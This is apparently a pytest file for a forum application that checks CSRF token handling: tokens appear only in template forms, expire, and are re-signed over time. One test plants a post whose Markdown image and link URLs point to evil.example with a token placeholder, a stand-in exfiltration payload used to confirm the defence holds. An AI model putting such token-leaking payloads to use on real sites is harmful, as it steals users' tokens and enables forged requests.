"""The viewer's CSRF token goes only where the templates put it, never where a post's author wrote."""

import re
import time

from tests.factories import PASSWORD, make_answer, make_thread, make_user

# The fixed placeholder that post fragments once carried: an author could write it into a post.
OLD_PLACEHOLDER = "peerline-csrf-slot-6f1c"
TOKEN_INPUT = re.compile(r'<input[^>]*\bname="csrf_token"[^>]*\bvalue="([^"]+)"[^>]*>')


def _signed_in_client(app, username):
    client = app.test_client()
    page = client.get("/signin").text
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    response = client.post("/signin", data={"login": username, "password": PASSWORD, "csrf_token": token})
    assert response.status_code == 302
    return client


def test_a_post_cannot_make_a_viewers_page_send_their_token_elsewhere(make_app):
    app = make_app("sqlite", WTF_CSRF_ENABLED=True, PEERLINE_PAGE_CACHE_SECONDS=30)
    bait = f"![i](https://evil.example/log?t={OLD_PLACEHOLDER}) and [a](https://evil.example/?t=slot-)"
    with app.app_context():
        thread = make_thread(title="Why does the export fail?", body=bait)
        make_answer(thread, body=f"Me too: {OLD_PLACEHOLDER}")
        thread_id = thread.id
        viewer = make_user().username

    page = _signed_in_client(app, viewer).get(f"/t/{thread_id}").text
    tokens = set(TOKEN_INPUT.findall(page))
    assert len(tokens) == 1, "the signed-in viewer's forms carry their token"
    token = tokens.pop()
    outside_forms = TOKEN_INPUT.sub("", page)
    assert token not in outside_forms
    assert "https://evil.example/log?t=" + OLD_PLACEHOLDER in page.replace("&amp;", "&")  # shown as written

    anonymous = app.test_client()
    first = anonymous.get(f"/t/{thread_id}")
    assert first.status_code == 200
    assert "Set-Cookie" not in first.headers, "an anonymous reader gets no session, so the page is cached"
    assert 'name="csrf_token"' not in first.text


def test_csrf_tokens_expire(make_app):
    app = make_app("sqlite", WTF_CSRF_ENABLED=True, WTF_CSRF_TIME_LIMIT=1)
    with app.app_context():
        thread_id = make_thread(title="An old tab").id
        viewer = make_user().username
    client = _signed_in_client(app, viewer)
    token = TOKEN_INPUT.search(client.get(f"/t/{thread_id}").text).group(1)
    time.sleep(2.1)
    response = client.post(f"/t/{thread_id}/reply", data={"body": "Still here?", "csrf_token": token})
    assert response.status_code == 400
    assert "expired" in response.text
    fresh = TOKEN_INPUT.search(client.get(f"/t/{thread_id}").text).group(1)
    again = client.post(f"/t/{thread_id}/reply", data={"body": "Still here?", "csrf_token": fresh})
    assert again.status_code == 302


def test_tokens_expire_by_default():
    from core.config import from_environment

    limit = from_environment(__import__("pathlib").Path("/tmp/peerline-config-test"))["WTF_CSRF_TIME_LIMIT"]
    assert limit is not None and 0 < limit <= 24 * 3600


def test_a_token_is_reused_for_a_minute_then_signed_afresh_and_both_are_accepted(make_app, monkeypatch):
    app = make_app("sqlite", WTF_CSRF_ENABLED=True)
    with app.app_context():
        thread_id = make_thread(title="Tabs opened a while apart").id
        viewer = make_user().username
    client = _signed_in_client(app, viewer)
    real_time, real_monotonic = time.time, time.monotonic
    first = TOKEN_INPUT.search(client.get(f"/t/{thread_id}").text).group(1)
    monkeypatch.setattr(time, "time", lambda: real_time() + 30)  # a new second: signing would differ
    monkeypatch.setattr(time, "monotonic", lambda: real_monotonic() + 30)
    assert TOKEN_INPUT.search(client.get(f"/t/{thread_id}").text).group(1) == first
    monkeypatch.setattr(time, "time", lambda: real_time() + 90)
    monkeypatch.setattr(time, "monotonic", lambda: real_monotonic() + 90)
    later = TOKEN_INPUT.search(client.get(f"/t/{thread_id}").text).group(1)
    assert later != first
    for token in (first, later):
        posted = client.post(f"/t/{thread_id}/reply", data={"body": f"Answer sent with {token[:6]}",
                                                            "csrf_token": token})
        assert posted.status_code == 302, posted.text
    other = _signed_in_client(app, make_user_name(app))
    assert TOKEN_INPUT.search(other.get(f"/t/{thread_id}").text).group(1) not in (first, later)


def make_user_name(app) -> str:
    with app.app_context():
        return make_user().username
